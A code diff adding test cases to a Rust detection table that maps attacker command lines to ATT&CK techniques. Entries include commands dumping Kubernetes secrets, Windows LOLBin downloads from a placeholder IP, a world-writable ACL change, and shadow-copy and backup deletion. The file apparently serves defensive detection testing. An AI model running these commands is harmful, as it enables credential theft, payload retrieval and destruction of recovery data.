@@ -686,6 +686,57 @@ const CASES: &[(&str, &str, &str)] = &[
         "finger-download",
         "T1105",
     ),
+    (
+        "kubectl get -n kube-system secret bootstrap-token -o yaml",
+        "container-secrets",
+        "T1552.007",
+    ),
+    ("kubectl get secrets -A", "container-secrets", "T1552.007"),
+    (
+        "curl -sk -H \"Authorization: Bearer $T\" https://10.96.0.1/api/v1/namespaces/default/secrets",
+        "container-secrets",
+        "T1552.007",
+    ),
+    (
+        r"certreq.exe -Post -config https://203.0.113.7/ c:\windows\win.ini out.txt",
+        "lolbin-download",
+        "T1105",
+    ),
+    (
+        r"C:\Windows\System32\IME\SHARED\IMEWDBLD.exe https://203.0.113.7/a.zip",
+        "lolbin-download",
+        "T1105",
+    ),
+    (
+        r#""C:\Program Files (x86)\Microsoft\Edge\Application\msedge_proxy.exe" https://203.0.113.7/file.zip"#,
+        "lolbin-download",
+        "T1105",
+    ),
+    (
+        r#"GUP.exe -unzipTo "" "C:\Temp" "Sample https://203.0.113.7/download/s.zip""#,
+        "lolbin-download",
+        "T1105",
+    ),
+    (
+        "nscurl -k https://203.0.113.7/x -o /tmp/x",
+        "lolbin-download",
+        "T1105",
+    ),
+    (
+        r#"$acl.SetAccessRule((New-Object System.Security.AccessControl.FileSystemAccessRule("Everyone","FullControl","Allow")))"#,
+        "permissions-opened",
+        "T1222.001",
+    ),
+    (
+        r"echo delete shadows all > s.txt & diskshadow /s s.txt",
+        "recovery-inhibited",
+        "T1490",
+    ),
+    (
+        r"rd /s /q C:\WindowsImageBackup",
+        "recovery-inhibited",
+        "T1490",
+    ),
     // A shell or script host under the name of another Windows program, or copied into a
     // temporary folder.
     (
